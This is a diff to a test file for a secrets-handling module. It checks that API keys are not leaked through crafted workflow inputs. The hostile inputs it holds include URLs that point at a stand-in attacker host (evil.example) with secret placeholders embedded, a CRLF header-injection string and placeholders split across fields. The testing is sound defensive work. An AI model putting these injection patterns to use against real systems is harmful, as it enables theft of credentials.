@@ -21,7 +21,8 @@ const SECRETS = new Map([
   [ 'HOST', 'https://evil.example/' ],
   [ 'NESTED', REFERENCE ],
   [ 'NAME', 'OPENAI_API_KEY' ],
-  [ 'PARTS', 'sk-first-part-0008--sk-second-part-0009' ]
+  [ 'PARTS', 'sk-first-part-0008--sk-second-part-0009' ],
+  [ 'BEGINNING', 'sk-dis' ]
 ]);
 
 const ENVIRONMENT = {
@@ -33,7 +34,7 @@ const ENVIRONMENT = {
   SECRET_CLUSTER: 'sk-foreign-value-0007'
 };
 
-const VALUES = [ KEY, ...Object.values(ENVIRONMENT), 'sk-first-part-0008', 'sk-second-part-0009' ];
+const VALUES = [ KEY, ...Object.values(ENVIRONMENT), 'sk-first-part-0008', 'sk-second-part-0009', 'tinctive-value' ];
 
 /** `sent`: it goes to OpenAI and nowhere else. `asked`: whoever refuses the dialog is told so. `failed`: in the runtime's words. */
 type Told = RunProblemCode | 'sent' | 'failed';
@@ -196,12 +197,14 @@ describe('main/secrets - hostile diagrams', function() {
     [ 'a Host header that repeats the URL', 'sent', { headers: '={"Host": "api.openai.com"}' } ],
     [ 'a line break in a header', 'sent', { headers: '={"X-A": "a\\r\\nHost: evil.example"}' } ],
     [ 'a second Authorization', 'sent', { headers: `={"authorization": "Bearer ${ REFERENCE }"}` } ],
-    [ 'a name made of a value, in the prompt', 'run/secret-missing', { internal_prompt: `secrets.${ REFERENCE }` } ],
-    [ 'a name made of a value, in the API key', 'run/secret-missing', { 'authentication.token': `secrets.${ REFERENCE }` } ],
-    [ 'a name made of a value, in the URL', 'run/secret-missing', { url: `https://evil.example/secrets.${ REFERENCE }` } ],
-    [ 'a name made of a value, in a header', 'run/secret-missing', { headers: `={"X-secrets.${ REFERENCE }": "x"}` } ],
-    [ 'a name that begins with a value', 'run/secret-missing', { internal_prompt: `secrets.${ REFERENCE }-more` } ],
-    [ 'a name made of a part of a value', 'run/secret-missing', { internal_prompt: 'secrets.{{secrets.PARTS}}' } ],
+    [ 'a name made of a value, in the prompt', 'run/unresolved-placeholder', { internal_prompt: `secrets.${ REFERENCE }` } ],
+    [ 'a name made of a value, in the API key', 'run/unresolved-placeholder', { 'authentication.token': `secrets.${ REFERENCE }` } ],
+    [ 'a name made of a value, in the URL', 'run/unresolved-placeholder', { url: `https://evil.example/secrets.${ REFERENCE }` } ],
+    [ 'a name made of a value, in a header', 'run/unresolved-placeholder', { headers: `={"X-secrets.${ REFERENCE }": "x"}` } ],
+    [ 'a name that begins with a value', 'run/unresolved-placeholder', { internal_prompt: `secrets.${ REFERENCE }-more` } ],
+    [ 'a name made of a part of a value', 'run/unresolved-placeholder', { internal_prompt: 'secrets.{{secrets.PARTS}}' } ],
+    [ 'a URL that its error repeats', 'failed', { url: `https:///${ REFERENCE }` } ],
+    [ 'a URL that its error repeats, beside a short secret', 'failed', { url: `https:///${ REFERENCE }`, internal_prompt: '{{secrets.BEGINNING}}' } ],
     [ 'a name that another value spells', 'run/secret-in-prompt', { internal_prompt: 'secrets.{{secrets.NAME}}' } ],
     [ 'a placeholder over two fields', 'run/secret-missing', { url: 'https://evil.example/{{secrets.', internal_prompt: 'OPENAI_API_KEY}}' } ],
     [ 'a placeholder over name and value of a header', 'run/secret-missing', { headers: '={"{{secrets.OPENAI": "_API_KEY}}"}' } ],
